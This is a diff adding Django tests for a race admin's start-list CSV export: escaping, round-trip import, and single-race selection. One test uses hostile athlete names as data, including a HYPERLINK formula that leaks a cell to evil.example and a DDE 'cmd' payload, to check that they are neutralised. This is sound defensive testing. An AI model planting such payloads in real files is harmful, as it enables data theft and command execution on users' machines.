@@ -1,11 +1,16 @@
 """The organizer's whole admin flow, through Django's test client."""
 
+import csv
+import io
+
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 
 from races.models import Race
+from races.start_list import parse_start_list
 from tests.conftest import SAMPLE_GPX
+from tests.factories import make_race
 
 pytestmark = pytest.mark.django_db
 
@@ -122,3 +127,49 @@ def test_the_change_list_shows_status_and_live_link(organizer):
     organizer.post(ADD_URL, race_form(gpx_file=gpx_upload()))
     page = organizer.get(LIST_URL).content.decode()
     assert "Draft</span>" in page and 'href="/races/vienna-trail/"' in page
+
+
+def test_start_list_export_downloads_csv_with_formulas_neutralised(organizer):
+    race = make_race(athletes=0, slug="export-me")
+    hostile = {
+        "1": '=HYPERLINK("http://evil.example/?"&A1,"Results")',
+        "2": "+1+cmd|' /C calc'!A0",
+        "3": "-2+3",
+        "4": "@SUM(A1:A9)",
+        "5": "\tTabbed",
+        "6": "Jane Smith",
+    }
+    for bib, name in hostile.items():
+        race.athletes.create(bib=bib, name=name, gender="female", category="W40")
+    response = act(organizer, "export_start_list", race)
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == 'attachment; filename="export-me-start-list.csv"'
+    rows = list(csv.reader(io.StringIO(response.content.decode())))
+    assert rows[0] == ["bib", "name", "gender", "category", "pace"]
+    names = {row[0]: row[1] for row in rows[1:]}
+    assert names == {
+        bib: name if name == "Jane Smith" else "'" + name for bib, name in hostile.items()
+    }
+    assert not any(cell[:1] in ("=", "+", "-", "@", "\t") for row in rows for cell in row)
+
+
+def test_start_list_export_round_trips_through_import(organizer):
+    race = make_race(athletes=0)
+    race.athletes.create(bib="7", name="Joe Bloggs", gender="male", category="M30")
+    race.athletes.create(bib="8", name="Ann Lee", gender="female", flat_pace_s_per_km=310)
+    exported = act(organizer, "export_start_list", race).content.decode()
+    assert [(r.bib, r.name, r.gender, r.category, r.flat_pace_s_per_km) for r in
+            parse_start_list(exported)] == [
+        ("7", "Joe Bloggs", "male", "M30", None),
+        ("8", "Ann Lee", "female", "", 310.0),
+    ]  # fmt: skip
+
+
+def test_start_list_export_needs_exactly_one_race(organizer):
+    first, second = make_race("One"), make_race("Two")
+    response = organizer.post(
+        LIST_URL,
+        {"action": "export_start_list", "_selected_action": [first.pk, second.pk]},
+        follow=True,
+    )
+    assert "Select one race to export its start list." in response.content.decode()
